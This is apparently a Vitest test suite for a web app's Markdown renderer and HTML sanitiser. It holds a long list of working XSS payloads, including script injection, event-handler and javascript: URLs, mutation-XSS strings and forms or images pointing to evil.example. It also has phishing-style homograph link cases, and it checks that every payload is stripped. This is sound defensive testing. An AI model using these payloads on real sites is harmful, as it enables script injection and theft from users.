import { describe, expect, test } from 'vitest';
import { highlight } from '#ui/parts/markdown/highlighter.ts';
import { enhance, isMisleading } from '#ui/parts/markdown/enhance.ts';
import { REMOTE_IMAGE, sanitise } from '#ui/parts/markdown/sanitise.ts';
import { splitBlocks } from '#ui/parts/markdown/split-blocks.ts';
import { createMarkdownRenderer } from '#ui/parts/markdown/to-html.ts';

const renderer = createMarkdownRenderer(
  { code: 'Code', taskDone: 'done', taskOpen: 'open' },
  highlight,
);
const toDirtyHtml = (markdown: string): string =>
  splitBlocks(markdown, renderer.lex, false)
    .map((block) => renderer.toHtml(block))
    .join('');

/** Parses without running or fetching anything. */
const parse = (html: string): HTMLElement =>
  new DOMParser().parseFromString(`<body>${html}`, 'text/html').body;
/** The way the page takes it. */
function clean(html: string): HTMLElement {
  const body = parse('');
  body.innerHTML = sanitise(html) as unknown as string;
  return body;
}

const TAGS = new Set(
  `a abbr b blockquote body br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd
  li mark ol p pre rp rt ruby s small span strong sub summary sup table tbody td tfoot th thead tr
  u ul var`.split(/\s+/),
);
const ATTRIBUTES = new Set(
  `align alt aria-label class colspan dir href lang open rel role rowspan src start tabindex target
  title ${REMOTE_IMAGE}`.split(/\s+/),
);
const CLASSES = /^(code|code-head|long|table|task|done|hljs-[a-z_-]+|language_|function_|class_)$/;

/** Everything in `root` that could run, call out, or look like a part of the app. */
function dangers(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const node of root.ownerDocument.querySelectorAll('*')) {
    const tag = node.localName;
    if (tag === 'html' || (tag === 'head' && node.children.length === 0)) continue;
    if (!TAGS.has(tag)) found.push(`<${tag}>`);
    for (const { name, value } of node.attributes) {
      // DOMPurify can only empty this one.
      if (name === 'is' && value === '') continue;
      if (!ATTRIBUTES.has(name)) found.push(name);
      if (name === 'href' && !/^(https?|mailto):/.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^data:image\/(png|jpeg|gif|webp|avif);base64,/.test(value)) {
        found.push(`src ${value}`);
      }
      if (name === REMOTE_IMAGE && (tag !== 'img' || !/^https?:/.test(value))) found.push(name);
      if (name === 'class' && value.split(' ').some((one) => !CLASSES.test(one))) found.push(value);
      if (name === 'tabindex' && tag !== 'pre') found.push(name);
      const isTask = node.classList.contains('task');
      if (name === 'role' && !(isTask && value === 'img')) found.push(`role ${value}`);
      if (name === 'aria-label' && !isTask) found.push(name);
      if (name === 'target' && value !== '_blank') found.push(`target ${value}`);
      if (name === 'rel' && value !== 'noopener noreferrer') found.push(`rel ${value}`);
    }
  }
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<p>a<script type="module">import("https://evil.example")</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnError="alert(1)">',
  '<p onclick="alert(1)">a</p>',
  '<details open ontoggle="alert(1)">a</details>',
  '<b onpointerenter=alert(1) onfocus=alert(1) tabindex=0 autofocus>a</b>',
  '<body onload="alert(1)">a',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script&colon;alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="blob:https://onggi.example/1">a</a>',
  '<a href="ftp://evil.example/">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="#/settings/data">a</a>',
  '<a href="/">a</a>',
  '<a href="intent://evil.example#Intent;end">a</a>',
  '<a href="https://example.com" target="_self" ping="https://evil.example">a</a>',
  '<a href="https://example.com" target="_top" rel="opener" download>a</a>',
  '<area href="https://evil.example"><map name="m"></map>',
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="https://evil.example/#a"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><foreignObject><p onclick="alert(1)">a</p></foreignObject></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<div style="background:url(https://evil.example)">a</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><p>a</p></form>',
  '<input name="key" autofocus onfocus="alert(1)">',
  '<button type="button" formaction="https://evil.example">Save</button>',
  '<textarea>a</textarea><select><option>a</option></select>',
  '<label for="composer">a</label>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<frameset><frame src="https://evil.example"></frameset><portal src="https://evil.example">',
  '<img src="https://evil.example/a.png" alt="a">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html;base64,PHA+">',
  '<img src="javascript:alert(1)"><img src="/api"><img src="blob:https://onggi.example/1">',
  `<img ${REMOTE_IMAGE}="javascript:alert(1)">`,
  '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<table background="https://evil.example/a.png"><tr><td>a</td></tr></table>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p id="app">a</p>',
  '<a name="body">a</a><img name="cookie">',
  '<p class="toast danger">a</p>',
  '<div class="code overlay">a</div>',
  '<p class="hljs-X svelte-1abc">a</p>',
  '<p role="alert">a</p><div role="dialog" aria-modal="true">a</div>',
  '<p role="img" aria-label="Error: sign in again">a</p>',
  `<span ${REMOTE_IMAGE}="https://evil.example/a.png">a</span>`,
  '<p class="task" role="alert">a</p>',
  '<p aria-live="assertive" aria-hidden="true">a</p>',
  '<p tabindex="0">a</p><p contenteditable>a</p><p draggable="true">a</p>',
  '<p popover>a</p><dialog open>a</dialog><p slot="a" part="b" is="c-d">a</p>',
  '<p data-testid="send" data-x="1">a</p>',
  '<template><script>alert(1)</script></template><slot></slot><c-d></c-d>',
  '<marquee onstart="alert(1)">a</marquee><blink>a</blink><center>a</center><font>a</font>',
  '<a href="https://example.com" style="color:red" hreflang="en" referrerpolicy="unsafe-url">a</a>',
  '<q cite="javascript:alert(1)">a</q><blockquote cite="https://evil.example">a</blockquote>',
];

describe('nothing dangerous is left of', () => {
  test.each(HOSTILE)('%s', (html) => {
    expect(dangers(parse(html)), 'the danger is one').not.toEqual([]);
    expect(dangers(clean(html))).toEqual([]);
  });
});

test.each([
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](data:text/html,x)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '![a](https://evil.example/a.png)',
  '![a][b]\n\n[b]: https://evil.example/a.png',
  '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  'text <img src=x onerror=alert(1)> text',
  '<div onclick=alert(1)>\n\n**bold**\n\n</div>',
])('nothing dangerous is left of the Markdown %s', (markdown) => {
  const dirty = toDirtyHtml(markdown);
  expect(dangers(parse(dirty))).not.toEqual([]);
  expect(dangers(clean(dirty))).toEqual([]);
});

describe('what is harmless stays', () => {
  test.each([
    '<p>한국어 <b>b</b> <em>e</em> <s>s</s> <kbd>k</kbd> H<sub>2</sub>O <mark>m</mark></p>',
    '<h1>1</h1><h6>6</h6><hr><ul><li>a</li></ul><ol start="3"><li>b</li></ol>',
    '<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>',
    '<details open=""><summary>s</summary><p>a</p></details>',
    '<div class="code"><div class="code-head"><span>JS</span></div><pre tabindex="0"><code>a</code></pre></div>',
    '<div class="table"><table><thead><tr><th align="right">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table></div>',
    '<span class="task done" role="img" aria-label="done"></span>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a" title="t">',
    '<p class="long">long</p><blockquote><p dir="rtl" lang="ar">a</p></blockquote>',
  ])('%s', (html) => {
    expect(clean(html).innerHTML).toBe(parse(html).innerHTML);
  });

  test('text of forbidden elements stays where it is text', () => {
    expect(clean('<center>a <font color="red">b</font></center>').textContent).toBe('a b');
  });
});

describe('links', () => {
  test.each(['https://example.com/a?b=1#c', 'http://example.com/', 'mailto:a@example.com'])(
    '%s opens in a window that knows nothing of us',
    (href) => {
      const link = clean(`<a href="${href}" target="_top" rel="opener">a</a>`).querySelector('a');
      expect(link?.getAttribute('href')).toBe(href);
      expect(link?.target).toBe('_blank');
      expect(link?.rel).toBe('noopener noreferrer');
    },
  );

  test('without a goal that is allowed stays as text', () => {
    const link = clean('<a href="javascript:alert(1)">words</a>').querySelector('a');
    expect(link?.textContent).toBe('words');
    expect(link?.hasAttribute('href')).toBe(false);
  });
});

describe('remote images', () => {
  test('gives an image without a text of its own an empty one', () => {
    expect(clean('<img src="x">').querySelector('img')?.getAttribute('alt')).toBe('');
  });

  test('are not loaded: their address waits for a click', () => {
    const image = clean('<img src="https://example.com/a.png" alt="옹기">').querySelector('img');
    expect(image?.hasAttribute('src')).toBe(false);
    expect(image?.getAttribute(REMOTE_IMAGE)).toBe('https://example.com/a.png');
    expect(image?.alt).toBe('옹기');
  });

  test('become a button that names their host', () => {
    const root = document.createElement('div');
    root.append(...clean(toDirtyHtml('![옹기](https://example.com/a.png)')).childNodes);
    const takeBack = enhance(root, {
      labels: {
        copy: 'Copy',
        copied: 'Copied',
        loadImage: (host) => `Load from ${host}`,
        openImage: (host) => `Open at ${host}`,
      },
      copyText: () => Promise.resolve(true),
      confirmLink: () => Promise.resolve(false),
    });
    takeBack();
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('button')?.textContent).toBe('옹기 · Load from example.com');
  });
});

describe('isMisleading', () => {
  test.each([
    ['https://example.com/', 'example.com', false],
    ['https://www.example.com/a', 'https://example.com/a', false],
    ['https://example.com/', 'EXAMPLE.com/path', false],
    ['https://example.com/', 'our page', false],
    ['https://example.com/', 'see e.g. this', false],
    ['https://example.com/', '', false],
    ['https://example.com/', '평범한 글', false],
    ['mailto:a@evil.example', 'example.com', false],
    ['not an address', 'example.com', false],
    ['https://evil.example/', 'example.com', true],
    ['https://evil.example/', ' https://example.com/login', true],
    ['https://evil.example/', 'www.example.com', true],
    ['https://evil.example/', 'sign in at example.com', true],
    ['https://evil.example/', 'exam\u200bple.com', true],
    ['https://evil.example/', '한국.com', true],
    ['https://example.com.evil.example/', 'example.com', true],
    ['https://example.com@evil.example/', 'our page', true],
    ['https://user:pass@example.com/', 'example.com', true],
    ['https://xn--80ak6aa92e.com/', 'apple', true],
    ['https://sub.xn--80ak6aa92e.com/', 'apple', true],
    ['https://аpple.com/', 'apple', true],
  ])('%s shown as %j: %s', (href, textContent, expected) => {
    expect(isMisleading({ href, textContent })).toBe(expected);
  });
});

describe('code', () => {
  test('of a known language keeps its colours', () => {
    const root = clean(toDirtyHtml('```ts\nconst 값: string = "글"; // note\n```'));
    expect(root.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(root.querySelector('.hljs-string')?.textContent).toBe('"글"');
    expect(root.querySelector('.hljs-comment')?.textContent).toBe('// note');
    expect(root.querySelector('.code-head span')?.textContent).toBe('TypeScript');
    expect(dangers(root)).toEqual([]);
  });

  test.each(['nonsense', '', 'js'])('in the language %j stays text and cannot run', (language) => {
    const code = '<script>alert(1)</script>&amp;"\'';
    const root = clean(toDirtyHtml(`\`\`\`${language}\n${code}\n\`\`\``));
    expect(root.querySelector('pre')?.textContent.trimEnd()).toBe(code);
    expect(dangers(root)).toEqual([]);
  });
});

test('takes no word of a text for where a waiting image comes from', () => {
  const image = clean('<img alt="x" data-remote-image="//evil.example/?leak">');
  expect(image.innerHTML).not.toContain('evil.example');
  const text = clean('<p data-remote-image="https://evil.example/">x</p>');
  expect(text.innerHTML).toBe('<p>x</p>');
});
